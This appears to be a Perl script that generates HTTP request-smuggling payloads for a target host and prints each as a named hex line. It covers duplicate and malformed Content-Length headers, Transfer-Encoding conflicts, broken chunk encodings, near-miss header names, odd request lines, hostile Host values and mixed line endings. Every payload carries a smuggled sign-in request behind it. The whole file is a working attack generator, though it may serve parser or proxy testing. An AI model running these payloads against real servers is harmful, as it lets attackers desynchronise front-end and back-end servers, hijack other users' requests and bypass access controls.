#!/usr/bin/perl
# smuggle.pl - requests with two readings, one a line: name, tab, bytes in hex.
#
#   smuggle.pl HOST
#
# Each is a message whose end is told in two ways, or in a way a strict reader
# refuses, followed by what a lenient one would take for the next request: a
# sign-in that nobody sent. The families are those of RFC 9112 (sections 2, 3, 5,
# 6, 7 and 11.2) and of the published work on desynchronisation.
use strict;
use warnings;

my $host = shift // 'localhost';
my $eol = "\r\n";
my $stolen = "{\"login\":\"smuggled\",\"password\":\"smuggled-password\"}";
my $next = join $eol, 'POST /v1/session HTTP/1.1', "Host: $host", 'Content-Type: application/json', 'X-Casebridge: web',
	"Origin: https://$host", 'Content-Length: ' . length $stolen, '', $stolen;
my %made;
my ($family, $n) = ('', 0);
sub out { my ($bytes) = @_; return if $made{$bytes}++; printf "%s %d\t%s\n", $family, ++$n, unpack 'H*', $bytes }

# A message with these headers, and the next as its body (or behind it).
sub message { my (@headers) = @_; out(join $eol, 'POST /v1/score HTTP/1.1', "Host: $host", 'Content-Type: application/json', @headers, '', $next) }
sub chunked { my ($chunks, @headers) = @_; out(join $eol, 'POST /v1/score HTTP/1.1', "Host: $host", 'Content-Type: application/json', @headers, '', $chunks . $next) }

my @blanks = ("\t", "\x0b", "\x0c", ' ', "\xa0", "\x00", "\r", "\x85", "\xe2\x80\x8b");
my @lengths = (0, 1, 4, length $next);

$family = 'two lengths';
for my $a (@lengths) { for my $b (@lengths) {
	message("Content-Length: $a", "Content-Length: $b");
	message("Content-Length: $a, $b");
	message("Content-Length: $a", "content-length: $b");
} }
message('Content-Length: ' . length $next, "Content_Length: $_") for @lengths;

$family = 'a length that is no number';
for my $v (@lengths) {
	message("Content-Length: $_") for "+$v", "-$v", "0x$v", "0$v", "$v.0", "${v}e0", "$v;", "$v $v", "'$v'", "\"$v\"", "$v\x00", "\x00$v",
		"18446744073709551616", "18446744073709551615", "4294967296$v", "99999999999999999999", '', ' ', ',', "$v,", ",$v", "\x{ff}1";
}

# Read strictly the whole rest is the body; the name beside it would end it sooner.
my $whole = 'Content-Length: ' . length $next;
$family = 'a name that is nearly one';
for my $v (0, 1, 4) {
	for my $b (@blanks) {
		message($whole, "Content-Length${b}: $v");
		message($whole, "${b}Content-Length: $v");
		message($whole, "Content${b}Length: $v");
	}
	message($whole, "Content-Length $v");
	message($whole, ": $v");
	message($whole, "Content-Length\r\n: $v");
	message($whole, "X: y\r\n Content-Length: $v");
	message($whole, "X: y\nContent-Length: $v");
	message($whole, "X: y\rContent-Length: $v");
	message($whole, "X: y\r\r\nContent-Length: $v");
}
for my $b (@blanks) { message("Content-Length:${b}4") if $b !~ /[\t ]/ }
message("Content-Length:\r\n 4");

$family = 'a coding and a length';
my @codings = ('chunked', 'Chunked', 'CHUNKED', ' chunked', 'chunked ', "chunked\t", "\tchunked", "\x0bchunked", "chunked\x0b", "\x00chunked", "chunked\x00",
	'"chunked"', 'xchunked', 'chunkedx', 'chunked, identity', 'identity, chunked', 'identity', 'gzip, chunked', 'chunked, chunked', 'chunked,', ',chunked',
	'chunked;a=b', "chunk\x65d\x20\x20", "ch\x{fc}nked", 'cow', '', 'x', "chunked\r\n identity", "\r\n chunked", "chu\r\n nked");
for my $c (@codings) {
	for my $v (0, 4, length $next) {
		chunked("0$eol$eol", "Content-Length: $v", "Transfer-Encoding: $c");
		chunked("0$eol$eol", "Transfer-Encoding: $c", "Content-Length: $v");
	}
	chunked("0$eol$eol", "Transfer-Encoding: $c") if $c !~ /^\s*chunked[\t ]*$/i;
	chunked("0$eol$eol", "Transfer-Encoding: $c", 'Transfer-Encoding: identity');
	chunked("0$eol$eol", 'Transfer-Encoding: identity', "Transfer-Encoding: $c");
	chunked("0$eol$eol", "Transfer-Encoding: $c", 'Transfer-Encoding: cow');
}

$family = 'a name of a coding that is nearly one';
my $all = 'Content-Length: ' . (5 + length $next);
for my $b (@blanks) {
	chunked("0$eol$eol", $all, "Transfer-Encoding${b}: chunked");
	chunked("0$eol$eol", $all, "${b}Transfer-Encoding: chunked");
	chunked("0$eol$eol", $all, "Transfer${b}Encoding: chunked");
}
chunked("0$eol$eol", $all, "$_: chunked") for 'Transfer_Encoding', 'Transfer-Encoding ', 'Transfer-Encodin', 'Transfer-Encoding-', 'TE';

$family = 'pieces that are none';
chunked($_, 'Transfer-Encoding: chunked') for
	(map { "$_$eol$eol" } '0x0', '+0', '-1', '-0', ' 0', "0 \x0b", '', ';', 'g', '0;a="', "0;\x00", "0;a\nb", 'FFFFFFFFFFFFFFFF', '10000000000000000', '80000000', '7FFFFFFFFFFFFFFF'),
	"0\n\n", "0\r\r", "0\n\r\n", "0\r\n\n", "1\r\nA0\r\n\r\n", "1\r\nAB\r\n0\r\n\r\n", "2\r\nA\r\n0\r\n\r\n", "1\nA\n0\n\n", "1\r\n\r\n0\r\n\r\n", "1;\r\nA\r\n0\r\n\r\n",
	(map { "0\r\n$_\r\n\r\n" } 'Content-Length: 3', 'Transfer-Encoding: chunked', 'Host: evil', 'X : y', ' X: y', "X\x00: y", "X: \x00");

$family = 'a request line that is none';
for my $line ("GET  / HTTP/1.1", "GET / HTTP/1.1 ", "GET\t/\tHTTP/1.1", " GET / HTTP/1.1", "GET / HTTP/1.2", "GET / HTTP/2.0", "GET / HTTP/0.9", "GET / HTTP/1.01", "GET / http/1.1", "GET / HTTP/1.1\x00",
	"GET /\x00 HTTP/1.1", "GET / HTTP/1.1\rX: y", "GET / HTTP/ 1.1", "G\x00ET / HTTP/1.1", "GET /a b HTTP/1.1", "GET http://evil/ HTTP/1.1", "GET https://$host HTTP/1.1", "GET * HTTP/1.1", "OPTIONS * HTTP/1.1",
	"CONNECT $host:443 HTTP/1.1", "GET /%00 HTTP/1.1", "GET /%2f HTTP/1.1", "GET /%2e%2e/ HTTP/1.1", "GET /../ HTTP/1.1", "GET /./ HTTP/1.1", "GET // HTTP/1.1", "GET /%5c HTTP/1.1", "GET /\\ HTTP/1.1",
	"GET /%zz HTTP/1.1", "GET /% HTTP/1.1", "GET /\x{e9} HTTP/1.1", "GET /?a=1&a=2 HTTP/1.1", "GET /#a HTTP/1.1", "PRI * HTTP/2.0", "GET / HTTP/1.1, HTTP/1.1", "GET / ICAP/1.0", "POST / HTTP/1.1") {
	out(join $eol, $line, "Host: $host", 'Content-Length: 4', '', "abcd$next");
}

$family = 'hosts';
out(join $eol, 'GET / HTTP/1.1', @$_, 'Content-Length: 4', '', "abcd$next") for ["Host: $host", 'Host: evil'], ['Host: evil', "Host: $host"], ["Host: $host", "Host: $host"], [],
	["Host: $host\@evil"], ["Host: evil#$host"], ["Host: $host:443:1"], ["Host: $host, evil"], ["Host : $host"], ["Host:\x0b$host"], ["Host: $host\x00"], ["Host: $host/a"], ["Host: [::1"], ["host: $host", 'HOST: evil'];

$family = 'ends of lines';
out("GET / HTTP/1.1\nHost: $host\nContent-Length: 4\n\nabcd$next");
out("GET / HTTP/1.1\r\nHost: $host\nContent-Length: 4\r\n\r\nabcd$next");
out("GET / HTTP/1.1\rHost: $host\rContent-Length: 4\r\rabcd$next");
out("GET / HTTP/1.1\r\nHost: $host\r\nContent-Length: 4\r\n\nabcd$next");
out("GET / HTTP/1.1\r\nHost: $host\r\nContent-Length: 4\n\r\nabcd$next");

$family = 'expectations and upgrades';
message("Content-Length: 4", "Expect: $_") for '100-continu', '200-ok', '100-continue, 100-continue', "100-continue\x00";
message('Content-Length: 4', 'Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAAP__');
message("Content-Length: 4", "Content-Encoding: $_") for 'gzip', 'br', 'zstd', 'identity', 'gzip, gzip', "gz\x00ip";
message('Content-Length: ' . length($next), "Connection: $_") for 'Content-Length', 'Content-Length, close', 'Host', "close\x00";
